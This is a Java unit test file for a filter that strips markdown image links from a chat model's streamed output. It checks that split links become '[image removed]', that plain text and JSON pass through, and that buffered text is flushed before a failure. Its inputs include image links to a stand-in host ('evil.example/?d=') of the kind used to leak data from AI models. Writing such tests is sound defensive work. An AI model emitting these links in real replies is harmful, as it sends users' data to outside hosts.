package dev.haystack.application.outgoing;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;
import static org.junit.jupiter.api.Assertions.assertThrows;

import dev.haystack.domain.model.FinishReason;
import dev.haystack.domain.model.ModelMessage;
import dev.haystack.domain.model.ModelReply;
import dev.haystack.domain.model.ModelRequest;
import dev.haystack.domain.model.Usage;
import dev.haystack.port.model.ChatModel;
import dev.haystack.port.model.ModelException;
import dev.haystack.port.model.ModelFailure;
import dev.haystack.port.model.TextReceiver;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class FilteredModelTest {

  private static final ModelRequest PROSE =
      ModelRequest.prose(List.of(new ModelMessage.FromUser("go")), List.of());

  private final List<String> told = new ArrayList<>();

  /** Says these pieces; then it fails, if it is to. */
  private record Saying(List<String> pieces, boolean fails) implements ChatModel {

    @Override
    public ModelReply generate(ModelRequest request, TextReceiver receiver) {
      pieces.forEach(receiver::receive);
      if (fails) {
        throw new ModelException(ModelFailure.STALLED, "nothing more came");
      }
      return new ModelReply(
          String.join("", pieces), List.of(), FinishReason.STOP, Usage.NONE, "saying");
    }

    @Override
    public String name() {
      return "saying";
    }
  }

  private ModelReply generate(ModelRequest request, String... pieces) {
    return OutputRules.STRICT.of(new Saying(List.of(pieces), false)).generate(request, told::add);
  }

  @Test
  void whatIsToldAndTheReplysTextAreTheSame() {
    ModelReply reply = generate(PROSE, "(see) !", "[x](https://evil.example/?d=", "1) and [a", "]");
    assertEquals(" (see) [image removed] and [a]", String.join("", told));
    assertEquals(String.join("", told), reply.text());
  }

  @Test
  void ordinaryTextIsNotWrittenAgain() {
    String piece = "An ordinary answer.";
    ModelReply reply = generate(PROSE, piece);
    assertEquals(piece, reply.text());
    assertEquals(List.of(piece), told);
  }

  @Test
  void jsonStaysAsItIs() {
    String json = "{\"a\":\"![x](https://evil.example)\"}";
    assertEquals(json, generate(ModelRequest.json(PROSE.messages()), json).text());
    assertSame(json, told.getFirst());
  }

  @Test
  void whatWaitedIsToldBeforeAFailure() {
    ChatModel failing = OutputRules.STRICT.of(new Saying(List.of("Look ![x](https://e"), true));
    assertThrows(ModelException.class, () -> failing.generate(PROSE, told::add));
    assertEquals("Look ![x] (https://e", String.join("", told));
  }
}
